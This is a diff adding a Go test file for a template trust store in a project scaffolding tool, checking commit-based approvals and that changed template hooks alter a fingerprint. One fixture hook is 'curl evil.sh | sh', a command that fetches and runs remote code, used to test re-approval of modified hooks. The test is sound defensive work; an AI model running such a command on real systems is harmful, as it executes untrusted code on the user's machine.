@@ -0,0 +1,78 @@
+package template
+
+import (
+	"path/filepath"
+	"testing"
+
+	"github.com/PickHD/pick-your-go/internal/config"
+)
+
+// TestTrustStore tests approving sources and persisting the trust store
+func TestTrustStore(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "nested", TrustStoreFileName)
+
+	store, err := LoadTrustStoreFile(path)
+	if err != nil {
+		t.Fatalf("LoadTrustStoreFile failed: %v", err)
+	}
+
+	source := TemplateSource{Repository: "https://example.com/tpl.git", Commit: "abc123"}
+	if store.IsTrusted(source) {
+		t.Fatal("expected unknown source not to be trusted")
+	}
+
+	store.Trust(source)
+	if err := store.Save(); err != nil {
+		t.Fatalf("Save failed: %v", err)
+	}
+
+	reloaded, err := LoadTrustStoreFile(path)
+	if err != nil {
+		t.Fatalf("LoadTrustStoreFile failed: %v", err)
+	}
+	if !reloaded.IsTrusted(source) {
+		t.Error("expected approved source to be trusted after reload")
+	}
+
+	// A changed commit needs a new approval
+	changed := TemplateSource{Repository: source.Repository, Commit: "def456"}
+	if reloaded.IsTrusted(changed) {
+		t.Error("expected source at a different commit not to be trusted")
+	}
+
+	// Approving the new commit replaces the old approval
+	reloaded.Trust(changed)
+	if len(reloaded.Trusted) != 1 {
+		t.Fatalf("expected 1 trust entry, got %d", len(reloaded.Trusted))
+	}
+	if reloaded.IsTrusted(source) {
+		t.Error("expected old commit to lose its approval")
+	}
+
+	// Sources without a commit are never trusted
+	if reloaded.IsTrusted(TemplateSource{Repository: source.Repository}) {
+		t.Error("expected source without commit not to be trusted")
+	}
+}
+
+// TestGetDirectorySource tests that changed hooks of a local template change its fingerprint
+func TestGetDirectorySource(t *testing.T) {
+	dir := t.TempDir()
+
+	first, err := GetDirectorySource(dir, []config.Hook{{Name: "tidy", Run: "go mod tidy"}})
+	if err != nil {
+		t.Fatalf("GetDirectorySource failed: %v", err)
+	}
+	same, _ := GetDirectorySource(dir, []config.Hook{{Name: "tidy", Run: "go mod tidy"}})
+	changed, _ := GetDirectorySource(dir, []config.Hook{{Name: "tidy", Run: "curl evil.sh | sh"}})
+
+	if first != same {
+		t.Error("expected identical hooks to yield the same source")
+	}
+	if first.Commit == changed.Commit {
+		t.Error("expected changed hooks to yield a different fingerprint")
+	}
+	if !filepath.IsAbs(first.Repository) {
+		t.Errorf("expected absolute repository path, got %s", first.Repository)
+	}
+}